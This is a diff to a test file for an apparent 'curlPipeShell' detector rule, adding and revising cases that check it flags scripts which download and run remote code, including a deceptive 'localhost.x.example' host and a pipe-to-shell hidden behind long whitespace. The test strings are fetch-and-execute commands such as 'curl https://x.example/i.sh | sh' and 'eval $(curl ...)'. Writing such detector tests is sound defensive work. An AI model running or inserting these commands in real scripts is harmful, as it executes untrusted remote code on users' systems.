@@ -11,6 +11,7 @@ test.each([
   "bash <(curl -s https://x.example/i.sh)",
   'sh -c "$(curl -fsSL https://x.example/i.sh)"',
   "eval $(curl https://x.example/env)",
+  "curl http://localhost.x.example/i.sh | sh",
   "curl https://x.example/i.sh \\\n  | bash",
 ])("%j runs what it downloads", async (script) => {
   expect(await said(curlPipeShell, run(script))).toEqual([
@@ -104,6 +105,11 @@ test("an action that installs the newest tool", async () => {
   ]);
 });
 
-test("an endless command is read so far", async () => {
-  expect(await said(curlPipeShell, run(`${"curl ".repeat(200_000)}| sh`))).toEqual([]);
+test("nothing hides in a line that is long, and none takes long", async () => {
+  const hidden = `echo ${"a ".repeat(200_000)}; curl https://x.example/i.sh ${" ".repeat(3000)}| sh`;
+  expect((await said(curlPipeShell, run(hidden))).length).toBe(1);
+  for (const piece of ["curl ", "curl -o a=", "env a=", "npm publish ", "mvn ", "$(curl "])
+    expect(await said(curlPipeShell, run(piece.repeat(100_000)))).toEqual([]);
+  const many = Array.from({ length: 20_000 }, (_, at) => `curl -o f${at} https://x.example`);
+  expect(await said(curlPipeShell, run(many.join("\n")))).toEqual([]);
 });
